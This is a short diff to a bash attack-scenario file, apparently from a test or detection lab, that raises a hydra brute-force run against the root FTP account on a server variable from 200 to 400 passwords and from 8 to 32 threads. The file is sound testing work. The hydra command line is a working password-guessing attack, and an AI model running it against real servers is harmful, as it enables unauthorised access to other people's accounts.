@@ -1,5 +1,5 @@
 # shellcheck shell=bash
-# about: 200 passwords for ftp (hydra)
+# about: passwords for ftp, by 32 threads: after each try the server waits (hydra)
 # type: attack
 # kind: password_guessing
 # target: server
@@ -7,6 +7,6 @@
 # tools: hydra vsftpd
 # within_ms: 15000
 play() {
-	passwords 200 >"$WORK/list"
-	on attacker timeout 30 hydra -I -o /dev/null -l root -P "$WORK/list" -t 8 "ftp://$SERVER_IP"
+	passwords 400 >"$WORK/list"
+	on attacker timeout 30 hydra -I -o /dev/null -l root -P "$WORK/list" -t 32 "ftp://$SERVER_IP"
 }
